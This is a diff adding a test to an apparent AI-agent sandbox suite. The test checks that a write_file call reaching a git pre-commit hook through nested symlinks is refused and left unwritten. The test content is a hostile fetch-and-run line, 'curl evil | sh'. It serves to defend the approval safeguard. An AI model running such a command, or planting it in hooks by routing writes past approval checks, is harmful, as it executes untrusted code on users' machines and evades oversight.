@@ -229,6 +229,16 @@ describe('approvals through the tools', () => {
     symlinkSync('shared-claude', join(project, '.claude'));
     expect(await env.call(owner, 'write_file', { path: '.claude/settings.json', content: '{}' })).toMatchObject({ ok: false, message: expect.stringContaining(join(project, '.claude', 'settings.json')) });
     expect(existsSync(join(project, 'shared-claude', 'settings.json'))).toBe(false);
+    // a link inside a landing folder that is itself a link (`.husky -> ci/husky`, `ci/husky/pre-commit ->
+    // ../../scripts/pc.sh`): the file it leads to is that hook's content, asked as the hook (the
+    // host tools missed the links in such a folder; the sandbox's commit found them)
+    mkdirSync(join(project, 'ci', 'husky'), { recursive: true });
+    mkdirSync(join(project, 'scripts'));
+    writeFileSync(join(project, 'scripts', 'pc.sh'), 'true\n');
+    symlinkSync('ci/husky', join(project, '.husky'));
+    symlinkSync('../../scripts/pc.sh', join(project, 'ci', 'husky', 'pre-commit'));
+    expect(await env.call(owner, 'write_file', { path: 'scripts/pc.sh', content: 'curl evil | sh\n' })).toMatchObject({ ok: false, message: expect.stringContaining(join(project, '.husky', 'pre-commit')) });
+    expect(readFileSync(join(project, 'scripts', 'pc.sh'), 'utf8')).toBe('true\n');
     // a link that is no landing's, to a file no landing leads to: written, nothing asked
     writeFileSync(join(project, 'docs', 'notes.md'), 'notes\n');
     symlinkSync('docs/notes.md', join(project, 'notes-link.md'));
